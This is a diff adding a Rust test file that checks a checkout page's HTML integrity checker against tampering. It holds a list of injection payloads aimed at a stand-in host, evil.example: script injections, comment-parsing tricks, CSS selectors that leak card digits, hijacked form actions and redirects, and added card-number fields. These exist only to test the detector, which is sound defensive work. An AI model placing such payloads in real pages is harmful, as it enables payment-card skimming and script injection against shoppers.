@@ -1,0 +1,227 @@
+use askama::Template;
+
+use super::*;
+use crate::console::Language;
+use crate::http::Mount;
+use crate::http::pages::checkout_card::CardView;
+use crate::http::pages::checkout_page::{
+    CheckoutPage, FieldView, FormView, MethodView, OfferView, PaymentView, StateView, mistake,
+};
+
+const LANGUAGES: [Language; 2] = [Language::Portuguese, Language::English];
+
+const TRANSACTION: &str = "0190a0b0-0000-7000-8000-000000000001";
+
+/// Texts of merchants and payers.
+const HOSTILE: &str = "</title></textarea><script>alert(\"1\")</script><!-- 'a' & b='c' \u{a0}";
+
+fn address() -> Url {
+    Url::parse("https://pay.example/checkout/token_of-link").unwrap()
+}
+
+fn bare(language: Language, word: &'static str) -> CheckoutPage {
+    let text = || HOSTILE.to_owned();
+    let offer = OfferView {
+        merchant_name: text(),
+        contact: Some(text()),
+        title: text(),
+        description: Some(text()),
+        amount: text(),
+        items: vec![text()],
+        is_test: true,
+    };
+    CheckoutPage {
+        language,
+        mount: Mount::ROOT,
+        offer: Some(offer),
+        state: StateView { word, label: "Label", sentence: "A sentence." },
+        form: None,
+        payment: None,
+        again: None,
+    }
+}
+
+fn with_form(language: Language, takes_cards: bool) -> CheckoutPage {
+    let method =
+        |value| MethodView { value, label: "Method", is_chosen: value == "pix", needs_address: true };
+    let field = |(name, kind, autocomplete): &(&'static str, &'static str, &'static str)| FieldView {
+        name,
+        label: "Label",
+        autocomplete,
+        kind,
+        is_numeric: *name == "tel",
+        value: HOSTILE.to_owned(),
+        known: (*name == "document").then(|| HOSTILE.to_owned()),
+        mistake: (*name == "email").then(|| mistake(language, "email", "format")),
+    };
+    let (payer, place) = FIELDS.split_at(4);
+    let form = FormView {
+        path: address().path().to_owned(),
+        number: "number-of_form".to_owned(),
+        methods: ["pix", "boleto", "credit_card"].map(method).into(),
+        fields: payer.iter().map(field).collect(),
+        address: place.iter().map(field).collect(),
+        address_legend: "Address",
+        card: takes_cards.then(|| CardView::of(language, &[])),
+        mistakes: vec![mistake(language, "email", "format"), mistake(language, "", "crowded")],
+    };
+    CheckoutPage { form: Some(form), ..bare(language, "open") }
+}
+
+fn with_payment(language: Language, is_waiting: bool) -> CheckoutPage {
+    let pix = (HOSTILE.to_owned(), "/pix/token_of-page.svg".to_owned());
+    let payment = PaymentView {
+        transaction_id: TRANSACTION.to_owned(),
+        is_waiting,
+        status_path: "/pix/token_of-page/status".to_owned(),
+        pix: is_waiting.then_some(pix),
+        boleto: is_waiting.then(|| (HOSTILE.to_owned(), "/boletos/token_of-page".to_owned())),
+        payable_until: Some("31/12/2026".to_owned()),
+        give_up: is_waiting.then(|| (address().path().to_owned(), "number".to_owned())),
+        success: (!is_waiting).then(|| {
+            let url = format!("https://shop.example/thanks?a=b&linkId=1&transactionId={TRANSACTION}");
+            (url, "shop.example".to_owned())
+        }),
+    };
+    let again = Some(address().path().to_owned());
+    let word = if is_waiting { "pending" } else { "paid" };
+    CheckoutPage { payment: Some(payment), again, ..bare(language, word) }
+}
+
+fn rendered(page: &CheckoutPage) -> String {
+    page.render().unwrap()
+}
+
+#[test]
+fn every_state_of_the_page_is_as_the_templates_write_it() {
+    for language in LANGUAGES {
+        let pages = [
+            CheckoutPage { offer: None, ..bare(language, "error") },
+            bare(language, "expired"),
+            with_form(language, false),
+            with_form(language, true),
+            with_payment(language, true),
+            with_payment(language, false),
+        ];
+        for page in pages {
+            let judgement = judge(&rendered(&page), &address());
+            assert_eq!(judgement.differences, Vec::<String>::new(), "{}", page.state.word);
+            let takes_cards = page.form.as_ref().is_some_and(|form| form.card.is_some());
+            assert_eq!(judgement.files.contains("checkout-card.js"), takes_cards);
+            assert!(
+                ["pages.css", "checkout.css", "checkout.js"]
+                    .iter()
+                    .all(|name| judgement.files.contains(name))
+            );
+            let goes_on = (page.state.word == "paid").then(|| "shop.example".to_owned());
+            assert_eq!(judgement.goes_on_at, goes_on);
+        }
+    }
+}
+
+/// Checks that each replacement in a page is told.
+#[track_caller]
+fn check(page: &CheckoutPage, changes: &[(&str, &str)]) {
+    let html = rendered(page);
+    assert_eq!(judge(&html, &address()).differences, Vec::<String>::new());
+    for (old, new) in changes {
+        let changed = html.replacen(old, new, 1);
+        assert_ne!(changed, html, "{old}");
+        assert!(!judge(&changed, &address()).differences.is_empty(), "{old} → {new}");
+    }
+}
+
+#[test]
+fn whatever_runs_or_loads_is_told_however_it_is_written() {
+    check(
+        &with_form(Language::Portuguese, true),
+        &[
+            ("</head>", "<script>alert(1)</script></head>"),
+            ("</head>", "<script src=\"https://evil.example/a.js\"></script></head>"),
+            ("</head>", "<!--><script src=\"https://evil.example/x.js\"></script><!-- --></head>"),
+            ("</head>", "<!---><script src=\"/evil.js\"></script><!-- --></head>"),
+            ("</head>", "<!-- x --!><script>alert(1)</script> --></head>"),
+            ("</head>", "<!-- a --></head>"),
+            ("</title>", "<a x=\"</title><script src=/evil.js></script><a y=\">"),
+            ("</main>", "<textarea><a x=\"</textarea><script>alert(1)</script><a y=\"\"></main>"),
+            ("</head>", "<style><a x=\"</style><script src=/evil.js></script><a y=\"\"></head>"),
+            ("</main>", "<a\u{a0}x=\"><script src=/evil.js></script><a y=\"\"></main>"),
+            ("</head>", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head>"),
+            ("</head>", "<meta http-equiv=\"refresh\" content=\"15\"></head>"),
+            ("</head>", "<link rel=STYLESHEET href=https://evil.example/x.css></head>"),
+            ("</head>", "<link rel=\"STYLESHEET\" href=\"https://evil.example/x.css\"></head>"),
+            ("</head>", "<link rel=\"modulepreload\" href=\"https://evil.example/x.js\"></head>"),
+            ("</head>", "<style>input[value^=\"4\"]{background:url(https://evil.example/4)}</style></head>"),
+            ("</main>", "<svg><script href=\"https://evil.example/x.js\"/></svg></main>"),
+            ("</main>", "<iframe src=\"/x\"></iframe></main>"),
+            ("</main>", "<img src=\"https://evil.example/x.svg\"></main>"),
+            ("</main>", "<p onclick=\"alert(1)\">a</p></main>"),
+            ("</main>", "<p style=\"position:fixed\">a</p></main>"),
+            (" defer></script>", "></script>"),
+            (" defer></script>", " defer>alert(1)</script>"),
+            ("integrity=", "data-x="),
+            ("integrity=\"sha384-", "integrity=\"sha384-A"),
+            ("/assets/checkout.js", "/assets/../checkout.js"),
+            ("<!DOCTYPE html>", ""),
+        ],
+    );
+}
+
+#[test]
+fn an_added_field_a_changed_address_and_a_foreign_link_are_told() {
+    check(
+        &with_form(Language::English, true),
+        &[
+            ("<fieldset id=\"method\">", "<input name=\"cc-number\"><fieldset id=\"method\">"),
+            (
+                "<fieldset id=\"method\">",
+                "<input id=\"cc-number\" name=\"cc-number\" type=\"text\" autocomplete=\"cc-number\"><fieldset id=\"method\">",
+            ),
+            (
+                "<fieldset id=\"method\">",
+                "<input id=\"name\" name=\"name\" type=\"text\" autocomplete=\"name\"><fieldset id=\"method\">",
+            ),
+            ("autocomplete=\"name\"", "autocomplete=\"cc-number\""),
+            (
+                "<input type=\"hidden\"",
+                "<input type=\"hidden\" name=\"form\" value=\"a\"><input type=\"hidden\"",
+            ),
+            ("action=\"/checkout/", "action=\"/checkout2/"),
+            ("action=\"/checkout/", "action=\"https://evil.example/checkout/"),
+            ("action=\"/checkout/token_of-link\"", "action=\"/checkout/other\""),
+            (" action=\"/checkout/token_of-link\"", ""),
+            (" method=\"post\"", ""),
+            ("<button type=\"submit\"", "<button formaction=\"https://evil.example/\" type=\"submit\""),
+            (
+                "<button type=\"submit\"",
+                "<a href=\"https://evil.example/pay\">Pay</a><button type=\"submit\"",
+            ),
+            ("<button type=\"submit\"", "<a href=\"javascript:alert(1)\">Pay</a><button type=\"submit\""),
+            (
+                "<button type=\"submit\"",
+                "<a rel=\"noreferrer\" href=\"https://evil.example/\">Continue at evil.example</a><button type=\"submit\"",
+            ),
+        ],
+    );
+    check(
+        &with_payment(Language::Portuguese, true),
+        &[
+            ("src=\"/pix/token_of-page.svg\"", "src=\"/pix/other.svg\""),
+            ("src=\"/pix/token_of-page.svg\"", "src=\"https://evil.example/pix/token_of-page.svg\""),
+            ("href=\"/boletos/token_of-page.pdf\"", "href=\"/boletos/other.pdf\""),
+            ("data-status-url=\"/pix/token_of-page/", "data-status-url=\"//evil.example/pix/token_of-page/"),
+            ("content=\"15\"", "content=\"15;url=https://evil.example/\""),
+        ],
+    );
+    check(
+        &with_payment(Language::English, false),
+        &[
+            ("https://shop.example/", "https://evil.example/"),
+            ("https://shop.example/", "https://shop.example@evil.example/"),
+            ("https://shop.example/", "http://shop.example/"),
+            ("https://shop.example/", "javascript://shop.example/"),
+            (&format!("transactionId={TRANSACTION}"), "transactionId=2"),
+            ("data-status=\"paid\"", "data-status=\"pending\""),
+        ],
+    );
+}
